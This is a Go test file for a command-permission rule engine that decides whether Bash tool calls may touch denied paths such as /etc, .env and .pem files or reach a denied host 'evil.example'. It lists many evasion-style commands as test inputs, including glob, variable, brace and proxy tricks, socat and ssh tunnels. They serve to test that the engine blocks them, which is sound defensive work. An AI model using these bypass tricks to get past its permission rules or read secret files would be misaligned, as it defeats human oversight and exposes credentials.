package toolrule

import (
	"strings"
	"testing"

	"github.com/bmatcuk/doublestar/v4"

	"weir/internal/testrand"
)

// judged fails for each script that rules do not judge as wanted.
func judged(t *testing.T, e Entry, want Decision, scripts ...string) {
	t.Helper()
	if err := e.Check(); err != nil {
		t.Fatal(err)
	}
	r := Rules{Entries: []Entry{e}}
	for _, script := range scripts {
		if got := r.Judge(call("Bash", command(script))); got.Decision != want {
			t.Errorf("%q: decision %v, want %v", script, got.Decision, want)
		}
	}
}

func TestDeniedPathsOfCommands(t *testing.T) {
	e := Entry{Decision: Deny, Tools: []string{"*"}, Paths: []string{"/etc/**", "**/.env", "**/*.{key,pem}"}}
	judged(t, e, Deny, "cat ~/../etc/x", "cat ~root/../etc/x", "cat $HOME/../etc/x", "cat \"$nothing\"/etc/x", "cat /e?c/x", "cat /et[c]/x", "cat /et*/x", "cat /*/x", "cat </et[c]/x", "cat {/etc/x,/dev/null}", "cat /{etc,x}/y",
		"x=/etc; cat $x/y", "x=/etc/y; cat $x", "x=/e; y=${x}tc; cat $y/z", "for d in /etc; do cat $d/y; done", "curl 'file:///{etc}/x'", "curl 'file:///et[b-d]/x'", "tar cf - -C / etc/x", "docker run -v /etc:/x a", "docker run --mount type=bind,source=/etc,target=/x a",
		"cat .e*", "cat a/.[e]nv", "cat ${x:-.env}", "cat a.k?y", "cat *.pem", "cat $x.env", "cat [!a]env.pem", "cat ../../e*/x", "cat "+strings.Repeat("/e*/..", 60)+"/etc/x")
	judged(t, e, Allow, "cat *.go", "cat src/[a-c]?.go", "sed 's/.*//' a", "grep '.*' a", "grep \".e*\" a", "find . -name '*.go'", "cat $HOME/a", "cat ~/a/../b", "x=src; cat $x/a", "cat {a,b}/c", "docker run -v $PWD:/app a", "curl 'https://a.example/[1-3]?x=*'",
		"for f in *.txt; do cat $f; done", "tar cf - -C src a", "git log --format=%h:%s", "rsync -a a/ host:b/", "echo {1..3}", "cat ${x}")
	judged(t, Entry{Decision: Deny, Tools: []string{"*"}, Paths: []string{"/etc/**", "**/.env"}}, Allow, "cat *", "ls /tmp/e*", "cp dist/* a")
}

func TestDeniedHostsOfCommands(t *testing.T) {
	e := Entry{Decision: Deny, Tools: []string{"*"}, Hosts: []string{"evil.example"}}
	judged(t, e, Deny, "curl https://evil.example$x/", "curl https://evil.example${x}/", "curl evil.example$x", "curl {evil.example,a}", "curl e{vil.example,x}", "curl 'https://{evil}.example/'", "curl 'https://ev[i-i]l.example/'",
		"curl https://good.example --connect-to ::evil.example:443", "curl -xevil.example:80 http://good.example/", "h=evil.example; curl http://$h/", "h=evil; curl http://$h.example/", "for h in evil.example; do curl $h; done", "http_proxy=evil.example curl a",
		"export http_proxy=evil.example; curl a", "curl -K- <<< 'url=evil.example'", "wget -i- <<< evil.example", "xargs curl <<< evil.example", "socat - TCP:evil.example:80", "ssh -Jevil.example h", "ssh -J b,evil.example h", "ssh -L 80:evil.example:80 h", "mysql -hevil.example")
	judged(t, e, Allow, "curl https://good.example$x/", "cat <<< evil.example > notes", "h=good.example; curl $h", "curl 'https://good.example/[1-3]'", "ssh -J a,b h", "echo {evil,example}")
}

// TestAllowedHostsOfCommands holds that a command which may lead to a host that nobody allows is not
// allowed.
func TestAllowedHostsOfCommands(t *testing.T) {
	e := Entry{Decision: Allow, Tools: []string{"Bash"}, Commands: []string{"curl", "wget"}, Hosts: []string{"good.example"}}
	judged(t, e, Deny, "curl https://good.example https://evil.example", "curl https://good.example --connect-to ::1.2.3.4:80", "curl https://good.example --connect-t ::a:80", "curl https://good.example $X", "curl https://good.example \"$X\"", "curl https://good.example `a`",
		"curl https://good.example --resolve good.example:443:::1", "curl https://good.example ::1", "curl https://good.example evil/x", "curl https://good.example evil", "curl https://good.example -x evil:3128", "curl https://good.example -sxevil", "curl https://good.example --url=evil", "curl https://good.example --url evil",
		"curl https://good.example 2852039166", "curl https://good.example -K- <<< 'url=evil'", "curl https://good.example --config a", "wget https://good.example -i list", "wget https://good.example -qi list", "wget https://good.example -e http_proxy=evil", "curl https://good.example -d @a -- evil", "curl https://$X/", "curl {https://good.example,evil}")
	judged(t, e, Allow, "curl https://good.example/a?b=c", "curl -sSL -H \"Authorization: Bearer $TOKEN\" https://good.example", "curl -d \"$BODY\" -X POST good.example/a", "curl --data $BODY https://good.example", "curl -o out https://good.example/{a,b}", "wget -q https://good.example/a", "curl -u me:$P https://good.example -m 5")
}

// TestAllowedFilesOfCommands holds that a command which may read or write a file that nobody allows is
// not allowed.
func TestAllowedFilesOfCommands(t *testing.T) {
	e := Entry{Decision: Allow, Tools: []string{"Bash"}, Commands: []string{"cat", "sort", "grep", "find", "head", "echo", "wc"}, Paths: []string{"src/**"}}
	judged(t, e, Deny, "cat src/a ../b", "cat src/a \"$X\"", "cat src/a $HOME/b", "cat src/$X", "cat src/{a,../../b}", "cat src/{a,../.env}", "cat src/a b", "cat src/a *", "sort src/a -o b", "sort src/a --output=b", "grep x src/a b", "grep -e x b src/a", "grep -f b src/a", "wc -c b src/a", "find src -newer b", "cat src/a `b`")
	judged(t, e, Allow, "cat src/a src/b", "cat src/*.go", "cat src/{a,b}", "head -n 5 src/a", "grep -rn needle src/", "grep -e needle src/a", "find src -name '*.go' -type f", "sort -k 2 -t , src/a", "echo hi there > src/a", "wc -l < src/a", "cat \"src/a b\"")
}

// TestGlobsMeet holds that a pattern and a word which match one path are found to meet.
func TestGlobsMeet(t *testing.T) {
	r := testrand.New(t)
	tokens := []string{"a", "b", "/", "*", "?", "[ab]", "**/", ".", "a"}
	write := func() string {
		var b strings.Builder
		for range 1 + r.IntN(6) {
			b.WriteString(tokens[r.IntN(len(tokens))])
		}
		return b.String()
	}
	met := 0
	for range 200000 {
		pattern, word, path := write(), write(), ""
		for range 1 + r.IntN(5) {
			path += []string{"a", "b", "/", "."}[r.IntN(4)]
		}
		if !doublestar.ValidatePattern(pattern) || !doublestar.ValidatePattern(word) || strings.Contains("/"+path, "/.") || strings.Contains(path, "//") || strings.HasSuffix(path, "/") {
			continue // a star of Bash matches no dot at the start of a name, one of doublestar does
		}
		if doublestar.MatchUnvalidated(pattern, path) && doublestar.MatchUnvalidated(word, path) {
			met++
			if !parseGlob(pattern).meets(parseGlob(word)) {
				t.Fatalf("%q and %q both match %q, and do not meet", pattern, word, path)
			}
		}
	}
	if met < 100 {
		t.Errorf("only %d of the pairs have a path in common", met)
	}
	for _, c := range []struct {
		pattern, word string
		want          bool
	}{{"/etc/**", "/e*/x", true}, {"/etc/**", "/f*/x", false}, {"**/.env", "*", false}, {"**/.env", ".*", true}, {"**/.env", "a/b/.e?v", true}, {"a*b", "b*a", false}, {"[a-c]x", "bx", true}, {"[a-c]x", "dx", false}, {"**/*.pem", "k?.p*m", true}, {"a/b", "*", false}, {"ä", "?", true}} {
		if got := parseGlob(c.pattern).meets(parseGlob(c.word)); got != c.want {
			t.Errorf("%q meets %q: %t, want %t", c.pattern, c.word, got, c.want)
		}
	}
}
